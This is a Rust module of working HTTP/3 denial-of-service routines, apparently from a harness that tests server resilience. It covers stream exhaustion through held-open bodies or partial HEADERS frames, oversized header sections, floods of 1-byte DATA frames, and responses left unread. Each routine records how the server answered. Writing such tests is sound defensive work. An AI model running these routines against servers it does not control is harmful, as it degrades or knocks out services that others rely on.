//! Attacks over an established HTTP/3 connection: stream exhaustion, header bombs, floods of tiny
//! DATA frames, and responses never read.

use std::io;
use std::time::Duration;

use super::peer::{QuicPeer, StreamState, quic_error, request_headers};

/// How long one turn waits while an attack waits for the server.
const TURN_WAIT: Duration = Duration::from_millis(50);

/// The first bytes of a HEADERS frame that announces 100 bytes of field section and never sends
/// them: frame type 0x01, length 100 (a two-byte varint), then the QPACK prefix (required insert
/// count 0, base 0) and one byte of a field line. The server has to keep the partial frame.
const PARTIAL_HEADERS: [u8; 5] = [0x01, 0x40, 0x64, 0x00, 0x00];

/// How [`exhaust_streams`] holds each stream open.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HoldStyle {
    /// A complete POST header section, then a body that never comes (the handler runs and waits).
    OpenBodies,
    /// Only the first bytes of a HEADERS frame (no request ever reaches the handler). Raw stream
    /// writes: do not send requests through [`QuicPeer::send_request`] on the same connection after.
    PartialHeaders,
}

/// Opens request streams on `peer` (HTTP/3 started) until the server's stream limit
/// (MAX_STREAMS) allows no more, never finishing one; returns how many it opened. The streams stay
/// open as long as the caller keeps the connection alive ([`QuicPeer::keep_alive`]).
///
/// # Errors
/// The connection closed, or quiche refused a request for another reason than the stream limit.
///
/// # Cancel safety
/// Cancel-safe: the streams opened so far stay open.
pub async fn exhaust_streams(peer: &mut QuicPeer, authority: &str, path: &str, style: HoldStyle) -> io::Result<usize> {
    let headers = request_headers("POST", authority, path);
    let mut opened = 0usize;
    while peer.conn().peer_streams_left_bidi() > 0 {
        if peer.is_closed() {
            return Err(peer.closed_error("opening streams"));
        }
        match style {
            HoldStyle::OpenBodies => match peer.send_request(&headers, false) {
                Ok(_) => opened += 1,
                Err(quiche::h3::Error::StreamBlocked) => peer.turn(TURN_WAIT).await?,
                Err(quiche::h3::Error::TransportError(quiche::Error::StreamLimit)) => break,
                Err(err) => return Err(quic_error(err)),
            },
            HoldStyle::PartialHeaders => {
                // Client-initiated bidirectional streams are 0, 4, 8, ... (RFC 9000 §2.1).
                let stream_id = 4 * opened as u64;
                match peer.conn_mut().stream_send(stream_id, &PARTIAL_HEADERS, false) {
                    Ok(_) => opened += 1,
                    Err(quiche::Error::StreamLimit) => break,
                    Err(quiche::Error::Done) => peer.turn(TURN_WAIT).await?,
                    Err(err) => return Err(quic_error(err)),
                }
            }
        }
    }
    peer.flush().await?;
    Ok(opened)
}

/// A header section built to exceed what a server accepts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HeaderBomb {
    /// One field whose value is this many bytes.
    HugeValue {
        /// The value's length.
        value_bytes: usize,
    },
    /// This many literal fields (`x-bomb: v`, about 9 bytes each on the wire).
    ManyFields {
        /// How many.
        fields: usize,
    },
    /// This many copies of a static-table field (`accept: */*`): one byte each on the wire, 41
    /// bytes each against the limit (RFC 9114 §4.2.2 counts name, value and 32).
    IndexedFields {
        /// How many.
        fields: usize,
    },
}

/// How the server answered a [`header_bomb`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BombOutcome {
    /// The server closed the connection: (application error?, code).
    pub connection_closed: Option<(bool, u64)>,
    /// What the attacker saw of the request stream (a reset, or a response).
    pub stream: Option<StreamState>,
}

/// Sends one request whose header section is `bomb` and waits for the server's verdict: a
/// response, a stream reset, or a connection close.
///
/// quiche's client writes a header section in one piece, so the whole section has to fit in the
/// congestion window: give the attacker a large `initial_congestion_window_packets` for big bombs.
///
/// # Errors
/// The socket fails, or quiche refuses to encode the section.
///
/// # Cancel safety
/// Cancel-safe: the request may or may not have been sent.
pub async fn header_bomb(peer: &mut QuicPeer, authority: &str, bomb: HeaderBomb) -> io::Result<BombOutcome> {
    let mut headers = request_headers("GET", authority, "/");
    match bomb {
        HeaderBomb::HugeValue { value_bytes } => {
            headers.push(quiche::h3::Header::new(b"x-bomb", &vec![b'a'; value_bytes]));
        }
        HeaderBomb::ManyFields { fields } => {
            headers.extend((0..fields).map(|_| quiche::h3::Header::new(b"x-bomb", b"v")));
        }
        HeaderBomb::IndexedFields { fields } => {
            headers.extend((0..fields).map(|_| quiche::h3::Header::new(b"accept", b"*/*")));
        }
    }
    let stream_id = match peer.send_request_when_ready(&headers, true).await {
        Ok(stream_id) => stream_id,
        Err(_) if peer.is_closed() => return Ok(BombOutcome { connection_closed: peer.peer_error(), stream: None }),
        Err(err) => return Err(err),
    };
    loop {
        peer.read_responses();
        if peer.is_closed() {
            return Ok(BombOutcome { connection_closed: peer.peer_error(), stream: peer.stream(stream_id).cloned() });
        }
        if let Some(stream) = peer.stream(stream_id).filter(|stream| stream.is_over()) {
            return Ok(BombOutcome { connection_closed: None, stream: Some(stream.clone()) });
        }
        peer.turn(TURN_WAIT).await?;
    }
}

/// How a [`tiny_data_flood`] ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FloodOutcome {
    /// 1-byte DATA frames quiche accepted for sending.
    pub frames_sent: u64,
    /// The response, if the server answered.
    pub response: Option<StreamState>,
    /// The server closed the connection: (application error?, code).
    pub connection_closed: Option<(bool, u64)>,
}

/// POSTs `frames` bytes to `path`, each in a DATA frame of its own (3 bytes on the wire per body
/// byte), as fast as flow control lets it, then waits for the response.
///
/// # Errors
/// The socket fails.
///
/// # Cancel safety
/// Cancel-safe: the upload stops where it is.
pub async fn tiny_data_flood(
    peer: &mut QuicPeer,
    authority: &str,
    path: &str,
    frames: u64,
) -> io::Result<FloodOutcome> {
    let stream_id = peer.send_request_when_ready(&request_headers("POST", authority, path), frames == 0).await?;
    let mut sent = 0u64;
    while sent < frames {
        let last = sent + 1 == frames;
        match peer.send_body(stream_id, b"x", last) {
            Ok(1) => {
                sent += 1;
                // Let the packets out as they fill: a flood, not one burst at the end.
                if sent.is_multiple_of(512) {
                    peer.turn(Duration::ZERO).await?;
                }
            }
            Ok(_) | Err(quiche::h3::Error::Done | quiche::h3::Error::StreamBlocked) => {
                peer.turn(TURN_WAIT).await?;
                peer.read_responses();
                if peer.is_closed() || peer.stream(stream_id).is_some_and(StreamState::is_over) {
                    break;
                }
            }
            Err(_) => break, // the server stopped or reset the stream; the outcome says so
        }
    }
    let response =
        if peer.is_closed() { peer.stream(stream_id).cloned() } else { peer.await_response(stream_id).await.ok() };
    Ok(FloodOutcome { frames_sent: sent, response, connection_closed: peer.peer_error() })
}

/// Sends `count` GET requests for `path` (stopping early at the server's stream limit) and returns
/// their stream IDs, reading nothing. Keep the connection alive with
/// [`QuicPeer::keep_alive`]`(false)`: packets are acknowledged but no response byte is ever read,
/// so once the windows the attacker advertised are full the server can send nothing more on them.
///
/// # Errors
/// The connection closed or the socket failed.
///
/// # Cancel safety
/// Cancel-safe: the requests sent so far stay open.
pub async fn open_unread(peer: &mut QuicPeer, authority: &str, path: &str, count: usize) -> io::Result<Vec<u64>> {
    let headers = request_headers("GET", authority, path);
    let mut streams = Vec::new();
    while streams.len() < count && peer.conn().peer_streams_left_bidi() > 0 {
        streams.push(peer.send_request_when_ready(&headers, true).await?);
    }
    peer.flush().await?;
    Ok(streams)
}
